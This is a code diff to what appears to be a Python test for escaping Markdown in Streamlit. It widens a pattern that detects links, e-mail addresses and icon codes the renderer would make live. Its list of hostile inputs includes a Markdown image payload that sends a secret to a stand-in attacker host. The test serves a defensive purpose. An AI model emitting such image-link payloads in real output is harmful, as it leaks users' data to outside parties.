@@ -20,7 +20,9 @@ LIVE = frozenset({"image", "link_open", "html_inline", "html_block"})
 # Outside code, these characters may only appear escaped: each starts a link, image, HTML, autolink, code span,
 # directive (`:red[…]`), e-mail autolink, math or entity somewhere in Streamlit's markdown.
 STARTERS = re.compile(r"[\[\]<`:@$&\\]|www\.", re.IGNORECASE)
-ICONS = re.compile(r":material[_/]|:streamlit:")
+# Streamlit finds these in the text after parsing, however they were escaped: remark-gfm links URLs and e-mail
+# addresses, Streamlit draws `:material_x:` and `:streamlit:` as icons.
+READS_AS_LIVE = re.compile(r"https?://|www\.|[-.\w+]@[-\w]|:material[_/]|:streamlit:", re.IGNORECASE)
 
 HOSTILE = [
     "![x](https://attacker.invalid/?d=secret)",
@@ -67,7 +69,7 @@ def live_tokens(markdown: str) -> list[str]:
             found.append(t.type)
         if t.type == "inline":
             decoded = "".join(c.content for c in t.children or [] if c.type in ("text", "text_special"))
-            found += [f"icon {m.group()!r}" for m in ICONS.finditer(decoded)]
+            found += [f"reads as {m.group()!r}" for m in READS_AS_LIVE.finditer(decoded)]
             plain = "".join(c.content if c.type == "text" else "\x00" for c in t.children or [])
             found += [f"plain {m.group()!r}" for m in STARTERS.finditer(plain)]
         stack.extend(t.children or [])
